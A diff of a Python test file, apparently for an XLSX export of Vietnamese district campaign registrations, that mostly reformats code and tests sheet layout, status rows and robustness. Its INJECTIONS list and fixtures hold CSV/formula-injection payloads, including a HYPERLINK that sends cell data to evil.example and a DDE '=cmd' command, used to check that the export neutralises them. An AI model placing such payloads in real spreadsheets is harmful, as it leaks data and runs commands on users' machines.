@@ -15,7 +15,7 @@ from docx.oxml.ns import qn
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from mailbot.export import (
+from mailbot.campaign.export import (
     ExportModel,
     FormStatus,
     UnitStatusRow,
@@ -31,8 +31,14 @@ FIELD_HEADERS = [
     "Lĩnh vực an ninh quốc phòng",
     "Lĩnh vực xây dựng hệ thống chính trị",
 ]
-INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)",
-              "\t=1+1", "=cmd|' /C calc'!A0"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "=cmd|' /C calc'!A0",
+]
 GENERATED = datetime(2022, 2, 22, 1, 0, tzinfo=UTC)  # 08:00 in Hanoi
 
 
@@ -43,32 +49,87 @@ def M(code, name, form, kind, field, who, model, note=None):  # noqa: N802 - a s
 KT, HPN, DTN = "Đảng ủy phường Khương Trung", "Hội Liên hiệp Phụ nữ quận", "Quận đoàn Thanh Xuân"
 MODELS = [
     # given out of unit order on purpose: the workbook groups them by unit (register order)
-    M("KT", KT, "M1", "collective", "culture_society", "Chi bộ Tổ dân phố số 5",
-      "- Tổ dân phố xanh - sạch - đẹp"),
-    M("HPN", HPN, "M1", "collective", "economy", "Chi hội Phụ nữ số 3",
-      "Nuôi heo đất giúp hội viên"),
+    M(
+        "KT",
+        KT,
+        "M1",
+        "collective",
+        "culture_society",
+        "Chi bộ Tổ dân phố số 5",
+        "- Tổ dân phố xanh - sạch - đẹp",
+    ),
+    M(
+        "HPN",
+        HPN,
+        "M1",
+        "collective",
+        "economy",
+        "Chi hội Phụ nữ số 3",
+        "Nuôi heo đất giúp hội viên",
+    ),
     M("KT", KT, "M1", "individual", "economy", "Nguyễn Văn An", INJECTIONS[0], note="+1"),
     M("HPN", HPN, "M1", "collective", "political_system", "Chi hội Phụ nữ số 7", "-2"),
     M("KT", KT, "M1", "collective", "security_defense", "Chi bộ Tổ dân phố số 9", "@SUM(A1:A9)"),
     M("HPN", HPN, "M1", "individual", "culture_society", "Trần Thị Bình", "Câu lạc bộ dưỡng sinh"),
     M("HPN", HPN, "M2", "collective", "economy", "Chi hội 1", "\t=1+1"),
-    M("DTN", DTN, "M2", "individual", "political_system", "Lê Văn Cường", "=cmd|' /C calc'!A0",
-      note="@note"),
+    M(
+        "DTN",
+        DTN,
+        "M2",
+        "individual",
+        "political_system",
+        "Lê Văn Cường",
+        "=cmd|' /C calc'!A0",
+        note="@note",
+    ),
     M("KT", KT, "M2", "collective", "security_defense", "Tổ bảo vệ dân phố", "Camera an ninh"),
 ]
 STATUSES = [
-    UnitStatusRow("HPN", HPN, "errors", {
-        "M1": FormStatus(datetime(2022, 2, 14, 2, 30, tzinfo=UTC), False, 4, 1,
-                         ["Dòng 5: thiếu tên mô hình", "=Tổng không khớp"], "=phunu@example.vn"),
-        "M2": FormStatus(datetime(2022, 2, 15, 9, 0), False, 1, 0, [], "phunu@example.vn"),
-    }),
-    UnitStatusRow("KT", KT, "complete", {
-        "M1": FormStatus(datetime(2022, 2, 21, 2, 30, tzinfo=UTC), True, 3, 0, [], "kt@example.vn"),
-        "M2": FormStatus(datetime(2022, 2, 19, 23, 59, tzinfo=timezone(timedelta(hours=7))),
-                         False, 1, 0, [], "kt@example.vn"),
-    }),
-    UnitStatusRow("DTN", DTN, "partial", {"M1": None, "M2": FormStatus(
-        datetime(2022, 2, 10, 1, 0, tzinfo=UTC), False, 1, 0, [], "doan@example.vn")}),
+    UnitStatusRow(
+        "HPN",
+        HPN,
+        "errors",
+        {
+            "M1": FormStatus(
+                datetime(2022, 2, 14, 2, 30, tzinfo=UTC),
+                False,
+                4,
+                1,
+                ["Dòng 5: thiếu tên mô hình", "=Tổng không khớp"],
+                "=phunu@example.vn",
+            ),
+            "M2": FormStatus(datetime(2022, 2, 15, 9, 0), False, 1, 0, [], "phunu@example.vn"),
+        },
+    ),
+    UnitStatusRow(
+        "KT",
+        KT,
+        "complete",
+        {
+            "M1": FormStatus(
+                datetime(2022, 2, 21, 2, 30, tzinfo=UTC), True, 3, 0, [], "kt@example.vn"
+            ),
+            "M2": FormStatus(
+                datetime(2022, 2, 19, 23, 59, tzinfo=timezone(timedelta(hours=7))),
+                False,
+                1,
+                0,
+                [],
+                "kt@example.vn",
+            ),
+        },
+    ),
+    UnitStatusRow(
+        "DTN",
+        DTN,
+        "partial",
+        {
+            "M1": None,
+            "M2": FormStatus(
+                datetime(2022, 2, 10, 1, 0, tzinfo=UTC), False, 1, 0, [], "doan@example.vn"
+            ),
+        },
+    ),
     UnitStatusRow("MTTQ", "Ủy ban MTTQ quận", "missing", {"M1": None, "M2": None}),
     UnitStatusRow("CCB", "Hội Cựu chiến binh quận", "awaiting-confirmation", {}),
 ]
@@ -115,10 +176,13 @@ def test_sheets(wb):
     assert wb.sheetnames == ["M1 - Cấp Quận", "M2 - Cấp cơ sở", "Tình hình nộp"]
 
 
-@pytest.mark.parametrize(("sheet", "form", "title"), [
-    ("M1 - Cấp Quận", "M1", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP QUẬN"),
-    ("M2 - Cấp cơ sở", "M2", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP CƠ SỞ"),
-])
+@pytest.mark.parametrize(
+    ("sheet", "form", "title"),
+    [
+        ("M1 - Cấp Quận", "M1", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP QUẬN"),
+        ("M2 - Cấp cơ sở", "M2", "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP CƠ SỞ"),
+    ],
+)
 def test_level_sheet_layout_and_counts(wb, sheet, form, title):
     ws = wb[sheet]
     part = _level(ws)
@@ -134,8 +198,13 @@ def test_level_sheet_layout_and_counts(wb, sheet, form, title):
     assert top[-1] == "Ghi chú"
     assert second[3:7] == FIELD_HEADERS
     merged = {str(r) for r in ws.merged_cells.ranges}
-    assert {f"A{head}:A{head + 1}", f"B{head}:B{head + 1}", f"C{head}:C{head + 1}",
-            f"D{head}:G{head}", f"H{head}:H{head + 1}"} <= merged
+    assert {
+        f"A{head}:A{head + 1}",
+        f"B{head}:B{head + 1}",
+        f"C{head}:C{head + 1}",
+        f"D{head}:G{head}",
+        f"H{head}:H{head + 1}",
+    } <= merged
 
     mine = [m for m in MODELS if m.form == form]
     assert list(part["sections"]) == ["Tập thể", "Cá nhân"]
@@ -171,12 +240,22 @@ def test_status_sheet(wb):
     assert list(body) == [s.unit_code for s in STATUSES]
 
     states = {code: r[2] for code, r in body.items()}
-    assert states == {"HPN": "Có lỗi", "KT": "Đã đủ", "DTN": "Còn thiếu", "MTTQ": "Chưa nộp",
-                      "CCB": "Chờ xác nhận"}
+    assert states == {
+        "HPN": "Có lỗi",
+        "KT": "Đã đủ",
+        "DTN": "Còn thiếu",
+        "MTTQ": "Chưa nộp",
+        "CCB": "Chờ xác nhận",
+    }
     hpn = body["HPN"]
     assert hpn[1] == HPN
-    assert hpn[3:8] == ["14/02/2022 09:30", None, 4,
-                        "- Dòng 5: thiếu tên mô hình\n- =Tổng không khớp", "=phunu@example.vn"]
+    assert hpn[3:8] == [
+        "14/02/2022 09:30",
+        None,
+        4,
+        "- Dòng 5: thiếu tên mô hình\n- =Tổng không khớp",
+        "=phunu@example.vn",
+    ]
     assert hpn[8] == "15/02/2022 16:00"  # a naive time is UTC
     kt = body["KT"]
     assert kt[3:6] == ["21/02/2022 09:30", "Muộn", 3]
@@ -188,8 +267,12 @@ def test_status_sheet(wb):
 
 
 def test_error_count_without_details_is_shown(campaign):
-    row = UnitStatusRow("A", "Đơn vị A", "errors", {
-        "M1": FormStatus(datetime(2022, 2, 1, tzinfo=UTC), False, 0, 2, [], "a@example.vn")})
+    row = UnitStatusRow(
+        "A",
+        "Đơn vị A",
+        "errors",
+        {"M1": FormStatus(datetime(2022, 2, 1, tzinfo=UTC), False, 0, 2, [], "a@example.vn")},
+    )
     data = write_consolidated_xlsx([], [row], campaign, GENERATED)
     rows = _rows(openpyxl.load_workbook(io.BytesIO(data))["Tình hình nộp"])
     unit = next(r for r in rows if r[0] == "A")
@@ -238,8 +321,10 @@ def test_print_settings(wb):
     cell = ws.cell(row=model_row, column=4)
     assert cell.alignment.wrap_text
     assert cell.font.name == "Times New Roman"
-    assert all(s.style == "thin" for s in (cell.border.left, cell.border.right, cell.border.top,
-                                           cell.border.bottom))
+    assert all(
+        s.style == "thin"
+        for s in (cell.border.left, cell.border.right, cell.border.top, cell.border.bottom)
+    )
     assert ws.row_dimensions[model_row].height >= 15
 
 
@@ -258,8 +343,9 @@ def test_empty_campaign_and_hostile_characters(campaign):
         assert part["sections"] == {"Tập thể": [], "Cá nhân": []}
         assert part["total"][3:8] == [0, 0, 0, 0, 0]
 
-    nasty = M("X\x00", "Đơn vị\x07 lạ", "M1", "collective", "economy", "Tên\x1b",
-              "Mô\x0bhình " * 5000)
+    nasty = M(
+        "X\x00", "Đơn vị\x07 lạ", "M1", "collective", "economy", "Tên\x1b", "Mô\x0bhình " * 5000
+    )
     data = write_consolidated_xlsx([nasty], [], campaign, GENERATED)
     part = _level(openpyxl.load_workbook(io.BytesIO(data))["M1 - Cấp Quận"])
     row = part["sections"]["Tập thể"][0]
@@ -279,15 +365,24 @@ TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_si
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(st.lists(st.tuples(
-    st.sampled_from(["A", "B", "C"]), st.sampled_from(["M1", "M2"]),
-    st.sampled_from(["collective", "individual"]), st.sampled_from(FIELDS),
-    st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t"]), TEXT).map("".join),
-), max_size=15))
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from(["A", "B", "C"]),
+            st.sampled_from(["M1", "M2"]),
+            st.sampled_from(["collective", "individual"]),
+            st.sampled_from(FIELDS),
+            st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t"]), TEXT).map("".join),
+        ),
+        max_size=15,
+    )
+)
 def test_counts_and_texts_survive_any_input(items):
     campaign = newest_campaign()
-    models = [M(u, f"Đơn vị {u}", form, kind, field, f"Tên {i}", text)
-              for i, (u, form, kind, field, text) in enumerate(items)]
+    models = [
+        M(u, f"Đơn vị {u}", form, kind, field, f"Tên {i}", text)
+        for i, (u, form, kind, field, text) in enumerate(items)
+    ]
     data = write_consolidated_xlsx(models, [], campaign, GENERATED)
     wb = openpyxl.load_workbook(io.BytesIO(data))
     for form, sheet in (("M1", "M1 - Cấp Quận"), ("M2", "M2 - Cấp cơ sở")):
@@ -295,8 +390,11 @@ def test_counts_and_texts_survive_any_input(items):
         mine = [m for m in models if m.form == form]
         counts = Counter(m.field for m in mine)
         assert part["total"][3:8] == [*(counts[f] for f in FIELDS), len(mine)]
-        got = sorted((r[1], next((v for v in r[3:7] if v is not None), "")) for rows in
-                     part["sections"].values() for r in rows)
+        got = sorted(
+            (r[1], next((v for v in r[3:7] if v is not None), ""))
+            for rows in part["sections"].values()
+            for r in rows
+        )
         assert got == sorted((m.name, m.model) for m in mine)
 
 
